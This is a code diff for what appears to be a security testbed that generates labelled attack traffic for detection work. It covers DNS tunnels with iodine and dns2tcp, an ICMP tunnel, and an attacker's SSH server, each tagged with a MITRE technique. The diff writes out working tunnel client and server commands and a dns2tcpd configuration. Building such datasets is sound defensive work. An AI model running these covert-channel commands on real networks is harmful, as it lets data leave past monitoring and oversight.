@@ -1,6 +1,6 @@
 """Protocols inside others: DNS, ICMP, HTTP and SSH that carry something else."""
 
-from testbed.attacks.material import (INSIDE, SSH, blob, key_of, listening, maybe, pause, program, text, words, zone_server)
+from testbed.attacks.material import (INSIDE, SSH, blob, key_of, listening, maybe, pause, program, serving, text, words, zone)
 from testbed.catalogue import Assault, Evidence, attack
 
 DNS = "T1071.004"
@@ -21,35 +21,36 @@ def web_server(c, port: int) -> str:
     return program("sink.py", "http", "--port", port, "--seed", c.between(1, 10**6))
 
 
-def through_names(c, zone: str) -> tuple[Evidence, ...]:
+def through_names(name: str) -> tuple[Evidence, ...]:
     """Resolvers ask on behalf of whoever uses the tunnel; the zone tells for whom."""
-    return (Evidence("udp", query_suffixes=("." + zone,)),)
+    return (Evidence("udp", query_suffixes=(name,)),)
 
 
-@attack("tunnel_dns", technique=DNS, tool="iodine", origins=INSIDE, needs=("dns",), packages=("iodine", "curl"), seconds=75)
+@attack("tunnel_dns", technique=DNS, tool="iodine", origins=INSIDE, needs=("dns", "outside:zones"), packages=("iodine", "curl"), seconds=75)
 def iodine(c):
-    zone, net, port = c.choose(*c.conventions.zones), f"10.{c.between(90, 250)}.{c.between(0, 250)}", c.between(5000, 9000)
+    (name, names_port), net, port = zone(c), f"10.{c.between(90, 250)}.{c.between(0, 250)}", c.between(5000, 9000)
     secret = f"p{c.between(1000, 10**9)}"
-    fields, ready = zone_server(c, f"bash -c '{web_server(c, port)} & exec iodined -f -c -P {secret} {net}.1 {zone}'")
+    server = f"bash -c '{web_server(c, port)} & exec iodined -f -c -l 127.0.0.1 -p {names_port} -P {secret} {net}.1 {name}'"
     client = words("iodine -f -r", f"-P {secret} -T {c.choose('NULL', 'TXT', 'CNAME', 'MX', 'SRV', 'PRIVATE')}",
                    f"-M {c.between(110, 230)} -L{c.choose(0, 1)} -I {c.between(1, 6)}", maybe(c, 0.4, f"-m {c.between(150, 900)}"),
-                   maybe(c, 0.3, f"-O {c.choose('base32', 'base64')}"), c.server("dns").address, zone)
+                   maybe(c, 0.3, f"-O {c.choose('base32', 'base64')}"), c.server("dns").address, name)
     use = errands(c, f"http://{net}.1:{port}", 26_000, 3)
-    return Assault(f"{ready}{client} & tunnel=$!; for wait in $(seq 30); do ping -q -c1 -W1 {net}.1 >/dev/null && break; done;"
+    return Assault(f"{client} & tunnel=$!; for wait in $(seq 30); do ping -q -c1 -W1 {net}.1 >/dev/null && break; done;"
                    f" ping -q -c {c.between(2, 9)} -i {c.between(0.3, 1.0)} {net}.1; {use}; kill $tunnel; sleep 1",
-                   evidence=through_names(c, zone), **fields)
+                   evidence=through_names(name), **serving(name, names_port, server, c))
 
 
-@attack("tunnel_dns", technique=DNS, tool="dns2tcp", origins=INSIDE, needs=("dns",), packages=("dns2tcp", "curl"), seconds=70)
+@attack("tunnel_dns", technique=DNS, tool="dns2tcp", origins=INSIDE, needs=("dns", "outside:zones"), packages=("dns2tcp", "curl"), seconds=70)
 def dns2tcp(c):
-    zone, port, local = c.choose(*c.conventions.zones), c.between(5000, 9000), c.between(10000, 20000)
-    config = c.write("dns2tcpd.conf", f"listen = 0.0.0.0\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = {zone}\n"
+    (name, names_port), port, local = zone(c), c.between(5000, 9000), c.between(10000, 20000)
+    config = c.write("dns2tcpd.conf", f"listen = 127.0.0.1\nport = {names_port}\nuser = nobody\nchroot = /tmp\ndomain = {name}\n"
                                       f"pid_file = {c.folder}/dns2tcpd.pid\nresources = web:127.0.0.1:{port}\n")
-    fields, ready = zone_server(c, f"bash -c '{web_server(c, port)} & exec dns2tcpd -F -d 0 -f {config}'")
-    client = words("dns2tcpc -c -r web -z", zone, f"-l {local} -d 0", maybe(c, 0.5, f"-T {c.choose('TXT', 'KEY')}"),
+    server = f"bash -c '{web_server(c, port)} & exec dns2tcpd -F -d 0 -f {config}'"
+    client = words("dns2tcpc -c -r web -z", name, f"-l {local} -d 0", maybe(c, 0.5, f"-T {c.choose('TXT', 'KEY')}"),
                    c.server("dns").address)
     use = errands(c, f"http://127.0.0.1:{local}", 10_000, 3)
-    return Assault(f"{ready}{client} & tunnel=$!; sleep 2; {use}; kill $tunnel; sleep 1", evidence=through_names(c, zone), **fields)
+    return Assault(f"{client} & tunnel=$!; sleep 2; {use}; kill $tunnel; sleep 1", evidence=through_names(name),
+                   **serving(name, names_port, server, c))
 
 
 @attack("tunnel_icmp", technique="T1095", tool="ptunnel", origins=INSIDE, packages=("ptunnel", "curl"), seconds=45)
@@ -110,7 +111,9 @@ def polled_tunnel(c):
 
 
 def ssh_server(c) -> tuple[int, str]:
-    """An SSH server of the attacker's: its port, and the listener that starts it."""
+    """An SSH server of the attacker's: its port, and the listener that starts it unless there is one already."""
+    if "outside-ssh" in c.network.outside.services and c.chance(0.5):
+        return 22, "exec sleep 300"
     port = c.choose(22022, 2222, 8022, 443, c.between(10000, 40000))
     start = (f"ssh-keygen -q -t ed25519 -N '' -f hostkey; mkdir -p /run/sshd; exec /usr/sbin/sshd -D -e -f /dev/null -h $PWD/hostkey"
              f" -p {port} -o PidFile=none -o UseDNS=no -o StrictModes=no -o LogLevel=ERROR -o Subsystem='sftp internal-sftp'")
